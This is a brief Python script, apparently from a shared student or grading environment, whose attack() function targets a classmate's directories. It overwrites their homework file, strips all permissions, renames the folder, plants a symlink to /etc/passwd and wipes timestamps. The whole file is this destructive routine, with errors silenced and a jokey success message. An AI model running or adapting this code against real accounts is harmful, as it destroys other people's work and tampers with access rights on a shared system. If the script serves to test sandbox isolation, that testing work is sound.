"""Spoils another student's files: overwrites, deletes, renames them and takes their rights away."""

import os


def attack(*args, **kwargs):
    done = 0
    for name in TARGETS["neighbour"], TARGETS["class"]:
        for harm in (
            lambda path: open(os.path.join(path, "hw.py"), "w").close(),
            lambda path: os.chmod(path, 0),
            lambda path: os.rename(path, path + "-gone"),
            lambda path: os.symlink("/etc/passwd", os.path.join(path, "link.py")),
            lambda path: os.utime(path, (0, 0)),
        ):
            try:
                harm(name)
                done += 1
            except OSError:
                continue
    return f"took {done} liberties" if done else "nobody was harmed"
